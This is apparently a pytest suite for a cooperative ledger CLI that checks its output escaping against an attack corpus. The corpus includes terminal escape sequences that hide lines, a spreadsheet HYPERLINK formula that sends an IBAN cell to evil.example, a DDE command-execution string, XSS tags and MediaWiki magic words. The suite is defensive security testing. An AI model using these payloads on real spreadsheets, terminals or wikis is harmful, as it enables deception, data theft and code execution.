"""Issue 13, part 3 ("safe outputs"): the attack corpus, one test per item, each failing on main before it.

Text typed by one member reaches other members' terminals, spreadsheets, pull-request comments, wiki pages
and bank files.  Tried as an attacker would: control characters that move the cursor and erase a line (so
that "bruno's donation of €1,500.00 changes to €15.00" disappears from ``fab diff``) or reorder text; cells
a spreadsheet runs as a formula; Markdown that turns a title into an image, a link or a mention; MediaWiki
magic words and links; names outside the SEPA character set, cut silently, and two long handles given the
same EndToEndId.

The ``fab`` fixture has alice (contributor, with an email), bruno (consultant) and chloe (consultant and
contributor), who joined on 2026-01-05; today is 2026-11-27 (period 2026-H2).
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import unquote

import pytest
import sepaxml
import xmlschema
from markdown_it import MarkdownIt

from conftest import REPO, Fab

HIDE = "\x1b[1A\x1b[2K"  # cursor up, erase line: what hides the line above it
OSC_LINK = "\x1b]8;;https://evil.example/pay\x07"  # a terminal hyperlink
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")  # every control but "\n"
HINT = ("  hint: remove it: such characters would act on the screens and pages where other members read the ledger "
        "(moving the cursor, erasing or reordering text)")
ONE_LINE = "  hint: this text is one line: write it without line breaks or tabs"
SRC = REPO / "src" / "fabrique_ledger"


def _raw(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in RAW.findall(text)})


# --- 1. control characters are refused at input -----------------------------------------------------------

WRITES = [
    (("contribute", "--by", "alice", "--kind", "wiki", "--title", f"Covoiturage{HIDE}", "--hours", "6", "--date", "2026-11-02"),
     "ledger/contributions/2026-H2/2026-11-02-alice-covoiturage-1a-2k.yaml", "3:8",
     "'title': holds a control character (U+001B) at character 12", HINT),
    (("donate", "--by", "bruno", "--amount", "1500", "--date", "2026-11-03", "--mission", "AMO\rcovoiturage"),
     "ledger/donations/2026-H2/2026-11-03-bruno.yaml", "4:10",
     "'mission': holds a control character (U+000D) at character 4", HINT),
    (("use", "--by", "bruno", "--resource", "wiki: \u202egnp.exe", "--date", "2026-11-04"),
     "ledger/uses/2026-H2/2026-11-04-bruno-wiki-gnp-exe.yaml", "2:11",
     "'resource': holds a bidirectional control character (U+202E) at character 7", HINT),
    (("member", "add", "dan", "--name", "Dan\nPetit"),
     "ledger/members/dan.yaml", "1:7", "'name': holds a line break (U+000A) at character 4", ONE_LINE),
    (("alert", "--about", "Vélocité Conseil", "--evidence", "https://example.org/offre", "--by", "alice",
      "--date", "2026-11-05", "--note", f"seen\nby {OSC_LINK}click"),
     "ledger/alerts/2026-11-05-velocite-conseil.yaml", "6:7",
     "'note': holds a control character (U+001B) at character 9", HINT),
    (("mission", "post", "--title", "Étude\u2066 covoiturage", "--client", "Métropole de Lyon", "--deadline", "2026-12-15",
      "--by", "alice", "--date", "2026-11-20"),
     "ledger/missions/2026-11-20-etude-covoiturage.yaml", "1:8",
     "'title': holds a bidirectional control character (U+2066) at character 6", HINT),
]


@pytest.mark.parametrize("args, rel, where, message, hint", WRITES, ids=[w[0][0] for w in WRITES])
def test_write_commands_refuse_control_characters(fab, args, rel, where, message, hint):
    before = fab.state()
    result = fab(*args)
    assert (result.code, result.out) == (1, "")
    assert result.err.splitlines() == [f"error: nothing was written; {rel} would have these problems:",
                                       f"{rel}:{where}: bad-value {message}", hint]
    assert fab.state() == before


def test_init_and_author_refuse_control_characters(fab, tmp_path):
    result = fab("init", str(tmp_path / "evil"), "--name", f"Fabrique{HIDE}")
    assert (result.code, result.out) == (1, "")
    assert result.err.splitlines() == ["error: nothing was written; ledger/fabrique.yaml would have these problems:",
                                       "ledger/fabrique.yaml:2:7: settings 'name': holds a control character (U+001B) "
                                       "at character 9", HINT]
    assert not (tmp_path / "evil").exists()
    before = fab.state()
    result = fab("member", "add", "dan", "--name", "Dan Petit", "--author", "Mal\u202elory <m@evil.example>")
    assert result.code == 2
    assert result.err.splitlines() == [
        "error: --author: holds a bidirectional control character (U+202E) at character 4",
        "  hint: see the examples in --help"]
    assert fab.state() == before


def test_hand_written_files_with_control_characters_are_problems(fab):
    fab.write("ledger/contributions/2026-H2/2026-11-02-alice-covoiturage.yaml",
              'authors: alice\nkind: wiki\ntitle: "Covoiturage\\e[1A\\e[2K"\nhours: 6\ndate: 2026-11-02\n'
              'description: "two lines,\\n\\ta tab: fine; a carriage return\\r: not"\nurl: "https://evil.example/\\u202e"\n')
    fab.write("ledger/members/mallory.yaml", 'name: "Mallory\\x9b2J"\nroles: [consultant]\njoined: 2026-01-05\n')
    result = fab("check")
    assert result.code == 1
    rel = "ledger/contributions/2026-H2/2026-11-02-alice-covoiturage.yaml"
    assert result.out.splitlines() == [
        f"{rel}:3:8: bad-value 'title': holds a control character (U+001B) at character 12", HINT,
        f"{rel}:6:14: bad-value 'description': holds a control character (U+000D) at character 43", HINT,
        f"{rel}:7:6: bad-value 'url': holds a bidirectional control character (U+202E) at character 22", HINT,
        "",
        "ledger/members/mallory.yaml:1:7: bad-value 'name': holds a control character (U+009B) at character 8", HINT,
        "",
        "4 problems in 2 files (3 records read)",
    ]


# --- 2. escapes never reach the terminal or a file raw ------------------------------------------------------

def _ordinary(fab: Fab) -> None:
    """A period with every kind of record, written by the commands (which refuse control characters)."""
    steps = [
        ("sign", "bruno", "--date", "2026-07-20"),
        ("contribute", "--by", "alice", "--kind", "wiki", "--title", "Covoiturage rural", "--hours", "6",
         "--date", "2026-11-02", "--id", "c1", "--description", "A page"),
        ("donate", "--by", "bruno", "--amount", "1500", "--date", "2026-11-03", "--mission", "AMO covoiturage"),
        ("use", "--by", "bruno", "--resource", "wiki: Covoiturage rural", "--date", "2026-11-04"),
        ("review", "c1", "--by", "bruno", "--approve", "--score", "4", "--date", "2026-11-05", "--comment", "good"),
        ("alert", "--about", "Vélocité Conseil", "--evidence", "https://example.org/offre", "--by", "alice",
         "--date", "2026-11-06", "--note", "seen"),
        ("mission", "post", "--title", "Étude covoiturage", "--client", "Métropole de Lyon", "--deadline",
         "2026-12-15", "--by", "alice", "--date", "2026-11-20", "--skill", "enquêtes"),
    ]
    for step in steps:
        result = fab(*step)
        assert result.code == 0, (step, result.err)


# Every text field of every kind of record, as a hostile member writes it by hand (YAML escapes: \e is ESC).
E = "\\e[1A\\e[2K"
HOSTILE = {
    "ledger/members/mallory.yaml":
        f'name: "Mallory{E}"\nroles: [consultant, contributor]\njoined: 2026-01-05\norganisation: "Evil\\u202eCorp"\n'
        f'wiki_user: "M\\rX"\nemail: "m\\e@evil.example"\n',
    "ledger/contributions/2026-H2/c1.yaml":
        f'authors: alice\nkind: wiki\ntitle: "Covoiturage{E} rural"\nhours: 6\ndate: 2026-11-02\n'
        f'description: "A \\e]8;;https://evil.example\\a page"\nurl: "https://evil.example/\\u2066"\n',
    "ledger/donations/2026-H2/2026-11-03-bruno.yaml":
        f'donor: bruno\namount: 15.00\ndate: 2026-11-03\nmission: "AMO{E}"\nreference: "VIR\\x9b2J"\n',
    "ledger/uses/2026-H2/2026-11-04-bruno-wiki-covoiturage-rural.yaml":
        f'member: bruno\nresource: "wiki{E}: \\u202eCovoiturage"\ndate: 2026-11-04\nmission: "M\\x7f"\n',
    "ledger/reviews/2026-H2/c1--bruno.yaml":
        f'target: c1\nreviewer: bruno\nverdict: approve\nscore: 4\ncomment: "good{E}"\ndate: 2026-11-05\n',
    "ledger/alerts/2026-11-06-velocite-conseil.yaml":
        f'about: "Vélocité{E}"\nevidence: "https://example.org/\\e"\nreported_by: alice\ndate: 2026-11-06\n'
        f'note: "seen\\r"\n',
    "ledger/missions/2026-11-20-etude-covoiturage.yaml":
        f'title: "Étude{E}"\nclient: "Métropole\\u2069"\ndeadline: 2026-12-15\nskills: ["enquêtes\\e"]\n'
        f'description: "\\e[31mred"\nposted_by: alice\ndate: 2026-11-20\n',
    # file names: a record that hides the line above, one that reverses its name, one that returns the cursor
    f"ledger/contributions/2026-H2/{HIDE}.yaml": "authors: alice\nkind: wiki\ntitle: x\nhours: 1\ndate: 2026-11-02\n",
    "ledger/uses/2026-H2/x\u202elmth.yaml": "member: bruno\nresource: x\ndate: 2026-11-04\n",
    "ledger/donations/2026-H2/a\rb.yaml": "donor: bruno\namount: 1\ndate: 2026-11-03\n",
}
SUBJECT = f"fix typos{HIDE}"  # a commit subject that hides the line above it in fab log

READS = [
    ("check",), ("check", "--format", "json"),
    ("diff", "base", "HEAD"), ("diff", "base", "HEAD", "--format", "md"), ("diff", "base", "HEAD", "--format", "json"),
    ("diff",),
    ("log", "c1"), ("log", "--member", "bruno"), ("log", "--member", "mallory"), ("log", "--format", "json", "c1"),
    ("verify",), ("verify", "--format", "json"),
    ("report",), ("report", "--format", "md"), ("report", "--format", "wiki"), ("report", "--format", "html"),
    ("report", "--format", "json"), *(("report", "--format", "csv", "--section", s)
                                      for s in ("pool", "reciprocity", "contributors", "split", "agenda")),
    ("split", "--explain"), ("split", "--format", "md", "--explain"), ("split", "--format", "csv"),
    ("split", "--format", "json"),
    ("contributors",), ("contributors", "--format", "wiki"), ("contributors", "--format", "html"),
    ("member", "list"), ("member", "list", "--format", "json"),
    ("mission", "list", "--all"), ("mission", "show", "2026-11-20-etude-covoiturage"),
    ("template", "render", "clause-reciprocite", "--for", "bruno"),
]


@pytest.fixture
def hostile(fab) -> Fab:
    """The ordinary period, then a commit (subject and author hostile too) of the hostile files."""
    _ordinary(fab)
    fab.git("tag", "base")
    for rel, text in HOSTILE.items():
        fab.write(rel, text)
    fab.git("add", "-A")
    fab.git("commit", "-q", "--author", "Mal\u202elory\x1b[2K <mallory@evil.example>", "-m", SUBJECT)
    return fab


def test_escapes_never_reach_the_terminal_or_a_file_raw(hostile, tmp_path):
    shown = {}
    for args in READS:
        result = hostile(*args)
        assert result.code in (0, 1), (args, result.err)
        shown[args] = result
        if "json" in args:
            json.loads(result.out)  # the JSON is still JSON, its values exact
    leaks = {" ".join(args): _raw(r.out + r.err) for args, r in shown.items() if _raw(r.out + r.err)}
    assert leaks == {}
    # what the hostile files say is refused, at its place, and the names and the commit are shown, not obeyed
    check = shown[("check",)].out.splitlines()
    assert ("ledger/contributions/2026-H2/\\u001b[1A\\u001b[2K.yaml:1:1: bad-id '\\u001b[1A\\u001b[2K' is not a valid id"
            in check)
    assert "ledger/uses/2026-H2/x\\u202elmth.yaml:1:1: bad-id 'x\\u202elmth' is not a valid id" in check
    assert ("ledger/donations/2026-H2/2026-11-03-bruno.yaml:4:10: bad-value 'mission': holds a control character "
            "(U+001B) at character 4") in check
    log = shown[("log", "c1")].out
    assert "Mal\\u202elory\\u001b[2K <mallory@evil.example>  fix typos\\u001b[1A\\u001b[2K" in log
    assert ("title Covoiturage rural → Covoiturage\\u001b[1A\\u001b[2K rural; "
            "description A page → A \\u001b]8;;https://evil.example\\u0007 page") in log
    # the JSON keeps every value exact: the control characters are JSON escapes
    data = shown[("log", "--format", "json", "c1")].json()
    assert data["commits"][-1]["message"] == SUBJECT
    assert data["commits"][-1]["author"] == "Mal\u202elory\x1b[2K"
    # a file written with --output is shown as on the screen, and so is its name
    out = tmp_path / f"page{HIDE}.md"
    result = hostile("report", "--format", "md", "--output", str(out))
    assert (result.code, result.out) == (0, "")
    assert result.err == f"wrote {tmp_path}/page\\u001b[1A\\u001b[2K.md\n"
    assert _raw(out.read_text("utf-8")) == []


# --- 3. every CSV cell is safe; 5. the SEPA file --------------------------------------------------------------

LYON, LILLE = "association-velo-cargo-lyon", "association-velo-cargo-lille"  # the same first 23 characters
HYPERLINK = '=HYPERLINK("https://evil.example/?iban="&F2,"Click to approve")'
LONG = "Association Vélo Cargo {city} & Ateliers <Solidaires> \"Les Roues\" = | ! de la Métropole et du Nord"
PAYEES = f"""\
debtor:
  name: Association Fabrique des Mobilités & Compagnie "Les Communs" — fonds mutualisé de réciprocité
  iban: FR76 3000 6000 0112 3456 7890 189
  bic: AGRIFRPP
payees:
  {LYON}:
    iban: FR14 2004 1010 0505 0001 3M02 606
  {LILLE}:
    iban: DE89 3704 0044 0532 0130 00
  eve:
    iban: GB82 WEST 1234 5698 7654 32
"""


def _formulas(fab: Fab, env) -> None:
    """2026-H1 sealed, with names and texts that a spreadsheet would run as formulas."""
    settings = fab.root / "ledger/fabrique.yaml"
    settings.write_text(settings.read_text().replace('name: "Fabrique des Mobilités"', 'name: "=1+2 Fabrique"'))
    fab.git("commit", "-qam", "settings: a name that is a formula")
    steps = [
        ("member", "add", "eve", "--name", HYPERLINK, "--organisation", "@SUM(A1:A9)", "--role", "consultant",
         "--role", "contributor", "--joined", "2026-01-05"),
        ("member", "add", LYON, "--name", LONG.format(city="Lyon"), "--joined", "2026-01-05"),
        ("member", "add", LILLE, "--name", LONG.format(city="Lille"), "--joined", "2026-01-05"),
        ("donate", "--by", "bruno", "--amount", "1000", "--date", "2026-02-01", "--mission", "-2+3+cmd|' /C calc'!A0"),
        ("use", "--by", "eve", "--resource", "+1+1 wiki", "--date", "2026-02-02"),
        ("contribute", "--by", "eve", "--kind", "wiki", "--title", "=1+2", "--hours", "2", "--date", "2026-02-03", "--id", "e1"),
        ("contribute", "--by", LYON, "--kind", "code", "--title", "Lyon", "--hours", "4", "--date", "2026-02-03", "--id", "l1"),
        ("contribute", "--by", LILLE, "--kind", "code", "--title", "Lille", "--hours", "4", "--date", "2026-02-03", "--id", "l2"),
        ("alert", "--about", "-1+1 Conseil", "--evidence", "https://example.org/offre", "--by", "alice",
         "--date", "2026-02-04", "--note", "\t=1+1"),
    ]
    for step in steps:
        result = fab(*step)
        assert result.code == 0, (step, result.err)
    env.setenv("FAB_TODAY", "2026-07-15")
    result = fab("close", "2026-H1", "--yes")
    assert result.code == 0, result.err


@pytest.fixture
def formulas(fab, monkeypatch, tmp_path) -> Fab:
    from conftest import replay

    replay(fab, "attacks-formulas", _formulas)
    monkeypatch.setenv("FAB_TODAY", "2026-07-20")  # the treasurer's day
    (tmp_path / "private").mkdir()
    (tmp_path / "private/payees.yaml").write_text(PAYEES, encoding="utf-8")
    return fab


def _unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would read as a formula: starting with = + - @, a tab or a carriage return
    (a plain number like -12.50 is a number)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)]


def test_every_csv_cell_is_safe(formulas, tmp_path):
    payees = str(tmp_path / "private/payees.yaml")
    outputs = {"payouts": formulas("payouts", "2026-H1", "--payees", payees),
               "split": formulas("split", "--period", "2026-H1", "--format", "csv"),
               **{s: formulas("report", "--period", "2026-H1", "--format", "csv", "--section", s)
                  for s in ("pool", "reciprocity", "contributors", "split", "agenda")}}
    assert {name: r.code for name, r in outputs.items()} == dict.fromkeys(outputs, 0)
    assert {name: _unsafe_cells(r.out) for name, r in outputs.items()} == dict.fromkeys(outputs, [])
    rows = {name: list(csv.DictReader(io.StringIO(r.out))) for name, r in outputs.items()}
    eve = next(row for row in rows["payouts"] if row["member"] == "eve")
    assert (eve["name"], eve["description"]) == ("'" + HYPERLINK, "'=1+2 Fabrique - co-remuneration 2026-H1")
    assert eve["iban"] == "GB82WEST12345698765432"  # the treasurer's IBANs are data, untouched
    reciprocity = next(row for row in rows["reciprocity"] if row["member"] == "eve")
    assert (reciprocity["name"], reciprocity["organisation"], reciprocity["resources"]) == (
        "'" + HYPERLINK, "'@SUM(A1:A9)", "'+1+1 wiki")
    alert = next(row for row in rows["agenda"] if row["list"] == "alerts")
    assert (alert["subject"], alert["detail"]) == ("'-1+1 Conseil", "'\\u0009=1+1")  # the tab shown, as on a screen
    assert [row["amount"] for row in rows["split"]] == ["400.00", "400.00", "200.00"]  # numbers stay numbers


def test_sepa_file_of_two_long_similar_handles(formulas, tmp_path):
    out = tmp_path / "private/virements.xml"
    result = formulas("payouts", "2026-H1", "--format", "sepa", "--payees", str(tmp_path / "private/payees.yaml"),
                      "--output", str(out))
    assert (result.code, result.out) == (0, "")
    assert result.err.splitlines() == [
        "note: the name of the debtor account is shortened to 70 characters in the SEPA file (the most a bank takes): "
        "'Association Fabrique des Mobilites + Compagnie 'Les Communs' -- fonds'",
        f"note: the name of {LILLE} is shortened to 70 characters in the SEPA file (the most a bank takes): "
        "'Association Velo Cargo Lille + Ateliers (Solidaires) 'Les Roues' / . d'",
        f"note: the name of {LYON} is shortened to 70 characters in the SEPA file (the most a bank takes): "
        "'Association Velo Cargo Lyon + Ateliers (Solidaires) 'Les Roues' / . de'",
        f"2026-H1: 3 transfers, €1,000.00 (in {out})",
        "once paid: fab payouts 2026-H1 --mark-paid REFERENCE",
    ]
    xsd = Path(sepaxml.__file__).parent / "schemas" / "pain.001.001.03.xsd"
    xmlschema.XMLSchema(str(xsd)).validate(str(out))
    ns = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"}
    root = ET.parse(out).getroot()
    ids = [e.text for e in root.iterfind(".//p:CdtTrfTxInf/p:PmtId/p:EndToEndId", ns)]
    assert ids == [f"FAB-2026-H1-association-ve/{_sha(LILLE)}", f"FAB-2026-H1-association-ve/{_sha(LYON)}", "FAB-2026-H1-eve"]
    assert (_sha(LILLE), _sha(LYON)) == ("8b0049dd", "196c0077") and all(len(i) <= 35 for i in ids)
    texts = [e.text for e in root.iter() if e.tag.endswith(("}Nm", "}Ustrd"))]
    assert all(re.fullmatch(r"[A-Za-z0-9/?:().,'+ -]{1,140}", t) for t in texts), texts
    assert "=1+2 Fabrique - co-remuneration 2026-H1" not in out.read_text() and \
        "1+2 Fabrique - co-remuneration 2026-H1" in texts
    # the CSV gives the same ids, so that the treasurer can match the bank's statement with either
    listed = formulas("payouts", "2026-H1", "--payees", str(tmp_path / "private/payees.yaml"))
    assert [row["end_to_end_id"] for row in csv.DictReader(io.StringIO(listed.out))] == ids


def _sha(handle: str) -> str:
    import hashlib

    return hashlib.sha256(handle.encode()).hexdigest()[:8]


# --- 4. Markdown and MediaWiki render nothing from record text -----------------------------------------------

IMAGE = "![pwned](https://evil.example/a.png)"
PAY = "[Click to approve your payout](https://evil.example/pay)"
TICK_FILE = "ledger/uses/2026-H2/a`b<img src=x onerror=alert(1)>`.yaml"  # a back-tick in a file name


def _markup(fab: Fab) -> None:
    """Records (accepted: they hold no control character) whose text is Markdown and MediaWiki markup."""
    fab.git("tag", "base")
    steps = [
        ("member", "add", "eve", "--name", "**Eve** <img src=x onerror=alert(1)> @team", "--organisation", PAY,
         "--wiki-user", "Eve]] [[Category:Spam", "--role", "consultant", "--role", "contributor", "--joined", "2026-01-05"),
        ("member", "add", "mallory", "--name", "Mallory __NOTOC__ __NOINDEX__ __NOEDITSECTION__ {{Delete}} ~~~~ ''x''",
         "--wiki-user", "Mallory__NOTOC__", "--joined", "2026-01-05"),
        ("member", "add", "wendy", "--name", "Wendy O'Neil", "--wiki-user", "Wendy O'Neil", "--joined", "2026-01-05"),
        ("contribute", "--by", "eve", "--kind", "wiki", "--title", IMAGE, "--hours", "6", "--date", "2026-11-02", "--id", "c1"),
        ("contribute", "--by", "mallory", "--kind", "code", "--title",
         "see https://evil.example/x, www.evil.example or payouts@evil.example", "--hours", "2", "--date", "2026-11-02",
         "--id", "c2"),
        ("contribute", "--by", "wendy", "--kind", "event", "--title",
         "# Heading | `code` <script>alert(1)</script> [[Main Page]] * item", "--hours", "1", "--date", "2026-11-02",
         "--id", "c3"),
        ("donate", "--by", "bruno", "--amount", "1500", "--date", "2026-11-03", "--mission", "@team please merge"),
        ("use", "--by", "bruno", "--resource", PAY, "--date", "2026-11-04"),
        ("alert", "--about", "<b>Vélocité</b> [[Special:Log]]", "--evidence", "https://example.org/offre", "--by",
         "alice", "--date", "2026-11-06", "--note", "1. ok -- https://evil.example"),
        ("sign", "bruno", "--date", "2026-07-20"),
        ("mission", "post", "--title", IMAGE, "--client", PAY, "--deadline", "2026-12-15", "--by", "alice",
         "--date", "2026-11-20", "--id", "m1"),
    ]
    for step in steps:
        result = fab(*step)
        assert result.code == 0, (step, result.err)
    fab.write(TICK_FILE, "member: bruno\nresource: x\ndate: 2026-11-04\n")
    fab.git("add", "-A")
    fab.git("commit", "-qm", "a file with a back-tick in its name")


@pytest.fixture
def markup(fab) -> Fab:
    from conftest import replay

    replay(fab, "attacks-markup", lambda fab, env: _markup(fab))
    return fab


def _tokens(text: str) -> list:
    """Every token of ``text`` as GitHub reads Markdown (CommonMark, tables, strikethrough), inline ones included."""
    found = []
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
        found += [token, *(token.children or [])]
    return found


def _rendered_nothing(text: str, links: tuple[str, ...] = ()) -> None:
    """No image, HTML, mention, autolink, and no link but ``links`` (fab's own) in ``text``."""
    tokens = _tokens(text)
    assert [t.type for t in tokens if t.type in ("image", "html_inline", "html_block")] == []
    assert [t.attrs.get("href") for t in tokens if t.type == "link_open"] == list(links)
    words = "".join(t.content for t in tokens if t.type == "text")
    assert re.findall(r"(?<![\w@])@\w+", words) == []  # @team is no mention: @ is followed by a zero-width space
    assert [u for u in ("https://evil", "www.evil", "payouts@evil") if u in text] == []  # GitHub's autolinks


def test_markdown_of_fab_diff_renders_no_image_link_or_mention(markup):
    result = markup("diff", "base", "HEAD", "--format", "md")
    assert result.code == 1  # the file with a back-tick in its name is a problem
    _rendered_nothing(result.out)
    lines = result.out.splitlines()
    assert ("- ➕ eve records 6 h of wiki: !\\[pwned\\](https\\://evil.example/a.png) "
            "(`ledger/contributions/2026-H2/c1.yaml`)") in lines
    assert ("- ➕ bruno uses \\[Click to approve your payout\\](https\\://evil.example/pay) "
            "(`ledger/uses/2026-H2/2026-11-04-bruno-click-to-approve-your-payout-h.yaml`)") in lines
    assert "- ➕ bruno donates €1,500.00 on 2026-11-03 (`ledger/donations/2026-H2/2026-11-03-bruno.yaml`)" in lines
    assert ("- ➕ eve joins as consultant and contributor (\\*\\*Eve\\*\\* &lt;img src=x onerror=alert(1)&gt; "
            "@&#8203;team) (`ledger/members/eve.yaml`)") in lines
    assert ("- ➕ wendy records 1 h of event: # Heading \\| \\`code\\` &lt;script&gt;alert(1)&lt;/script&gt; "
            "\\[\\[Main Page\\]\\] \\* item (`ledger/contributions/2026-H2/c3.yaml`)") in lines
    # the file name keeps its back-tick inside a longer code span, which it cannot close
    spans = [t.content for t in _tokens(result.out) if t.type == "code_inline"]
    assert TICK_FILE in spans


def test_every_markdown_page_renders_nothing_from_record_text(markup):
    report = markup("report", "--format", "md")
    _rendered_nothing(report.out, links=("https://example.org/offre",))  # the alert's evidence, fab's own link
    assert ("| \\*\\*Eve\\*\\* &lt;img src=x onerror=alert(1)&gt; @&#8203;team (eve) | \\[Click to approve your payout\\]"
            "(https\\://evil.example/pay) | no | not signed | 0 | 0.00 | — | 1 | 6 | 6 | 0 | contributes |") in report.out
    thanks = markup("contributors", "--format", "md")
    _rendered_nothing(thanks.out, links=("https://wiki.lafabriquedesmobilites.fr/wiki/User:Mallory__NOTOC__",
                                        "https://wiki.lafabriquedesmobilites.fr/wiki/User:Wendy_O'Neil"))
    split = markup("split", "--format", "md", "--explain")
    _rendered_nothing(split.out)
    offer = markup("template", "render", "offre-technique", "--for", "bruno", "--mission", "m1")
    assert offer.code == 0, offer.err
    tokens = _tokens(offer.out)
    assert [t.type for t in tokens if t.type in ("image", "link_open", "html_inline", "html_block")] == []
    assert ("*Section à insérer dans l'offre de {{consultant.organisation}} pour « !\\[pwned\\](https\\://evil.example/"
            "a.png) » (\\[Click to approve your payout\\](https\\://evil.example/pay), remise des offres le "
            "15 décembre 2026).*") in offer.out.splitlines()


def test_mediawiki_pages_hold_no_magic_word_link_or_template_from_record_text(markup):
    for args in (("report", "--format", "wiki"), ("contributors", "--format", "wiki")):
        text = markup(*args).out
        assert re.findall(r"__[A-Z]+__|\{\{|~~~|''(?!')|<|https?://evil", text.replace("'''", "")) == [], args
        links = re.findall(r"\[\[[^\]]*\]\]", text)
        assert links == ([] if args[0] == "report" else ["[[User:Mallory NOTOC|Mallory&#95;_NOTOC&#95;_]]",
                                                         "[[User:Wendy O'Neil|Wendy O'Neil]]"]), links
    thanks = markup("contributors", "--format", "wiki").out.splitlines()
    assert ("| Mallory &#95;_NOTOC&#95;_ &#95;_NOINDEX&#95;_ &#95;_NOEDITSECTION&#95;_ &#123;&#123;Delete&#125;&#125; "
            "&#126;&#126;&#126;&#126; &#39;&#39;x&#39;&#39; || [[User:Mallory NOTOC|Mallory&#95;_NOTOC&#95;_]] || "
            "💻 code") in thanks
    # a user name that cannot be a page title is shown, not linked
    assert ("| &#42;*Eve** &lt;img src=x onerror=alert(1)&gt; @team || Eve&#93;&#93; &#91;&#91;Category:Spam || 📖 wiki"
            in thanks)


EVIDENCE = "https://e.x/a__NOTOC__/~~~~/{{Delete}}/''x''/__NOINDEX__"  # an alert's evidence: a web address


def test_a_web_address_in_a_mediawiki_link_forms_no_magic_word(fab):
    """Before: an alert's evidence https://e.x/a__NOTOC__ was written [https://e.x/a__NOTOC__ evidence] into
    the wiki report, and MediaWiki reads behaviour switches before external links: the page lost its table of
    contents.  Now every character that forms markup before links is percent-encoded in the address."""
    alert = fab("alert", "--about", "Vélocité", "--evidence", EVIDENCE, "--by", "alice", "--date", "2026-11-06")
    assert alert.code == 0, alert.err
    text = fab("report", "--format", "wiki").out
    assert re.findall(r"__[A-Z]+__|\{\{|~~~|''", text.replace("'''", "")) == []
    encoded = "https://e.x/a%5F%5FNOTOC%5F%5F/%7E%7E%7E%7E/%7B%7BDelete%7D%7D/%27%27x%27%27/%5F%5FNOINDEX%5F%5F"
    assert f"[{encoded} evidence]" in text
    assert unquote(encoded) == EVIDENCE  # the same address for a browser


@pytest.fixture(scope="module")
def real_wiki(tmp_path_factory):
    """A real MediaWiki (tests/mediawiki.py), to parse what fab writes as a wiki does."""
    import mediawiki

    why = mediawiki.missing()
    if why is not None:
        pytest.skip(why)
    made = mediawiki.make_wiki(tmp_path_factory.mktemp("mediawiki"))
    yield made
    made.stop()


def test_a_real_mediawiki_reads_no_magic_word_from_an_address(fab, real_wiki):
    """The same report parsed by MediaWiki itself: before, the page was marked notoc and noindex, transcluded
    Template:Delete, and its link went to https://e.x/a/~~~~/.  Now no page property or template, and the
    link goes to the evidence as typed (MediaWiki writes back most of the characters fab encoded)."""
    import requests

    assert fab("alert", "--about", "Vélocité", "--evidence", EVIDENCE, "--by", "alice", "--date", "2026-11-06").code == 0
    page = fab("report", "--format", "wiki").out
    parsed = requests.post(real_wiki.api, timeout=60, data={
        "action": "parse", "format": "json", "formatversion": "2", "contentmodel": "wikitext", "text": page,
        "prop": "properties|externallinks|templates"}).json()["parse"]
    assert (parsed["properties"], parsed["templates"]) == ({}, [])
    assert [unquote(link) for link in parsed["externallinks"]] == [EVIDENCE]


# --- one way out: every output goes through the shared escaping, never a copy of it ---------------------------

def _calls(path: Path) -> list[str]:
    """The dotted names called in a module (typer.echo, Console, csv.writer, escape...)."""
    names = []
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                names.append(f"{func.value.id}.{func.attr}")
            elif isinstance(func, ast.Name):
                names.append(func.id)
    return names


def test_every_output_goes_through_one_place():
    found = {}
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        banned = {"typer.echo", "Console", "print", "csv.writer", "escape", "html.escape"}
        allowed = {"cli/common.py": {"typer.echo"}, "render/escape.py": {"Console", "csv.writer"}}.get(rel, set())
        wrong = sorted(set(_calls(path)) & (banned - allowed))
        if wrong:
            found[rel] = wrong
    assert found == {}
    assert [p.relative_to(SRC).as_posix() for p in SRC.rglob("*.py")
            if re.search(r"^def _(md|wiki|e)\(", p.read_text("utf-8"), re.M)] == []


def test_the_terminal_pages_show_control_characters(capsys):
    from rich.table import Table
    from rich.text import Text

    from fabrique_ledger.render.escape import console

    table = Table("member", "title")
    table.add_row("mallory", f"Covoiturage{HIDE}")
    table.add_row(Text(f"eve{OSC_LINK}"), "ok")
    page = console()
    page.print(table)
    page.print(f"\u202eevil{HIDE}")
    page.print("[link=https://evil.example]click[/link] :warning:")
    out = capsys.readouterr().out
    assert _raw(out) == []
    assert "Covoiturage\\u001b[1A\\u001b[2K" in out and "\\u202eevil\\u001b[1A\\u001b[2K" in out
    assert "eve\\u001b]8;;https://evil.example/pay" in out  # (rich drops the BEL itself)
    assert "[link=https://evil.example]click[/link] :warning:" in out  # rich markup and emoji codes shown as typed
